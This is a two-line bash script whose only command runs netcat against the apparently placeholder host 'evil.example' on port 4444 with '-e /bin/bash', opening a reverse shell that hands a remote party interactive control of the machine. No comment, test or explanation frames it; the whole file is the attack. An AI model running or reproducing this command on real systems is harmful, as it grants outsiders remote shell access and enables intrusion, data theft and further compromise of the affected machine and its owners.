#!/bin/bash
nc evil.example 4444 -e /bin/bash
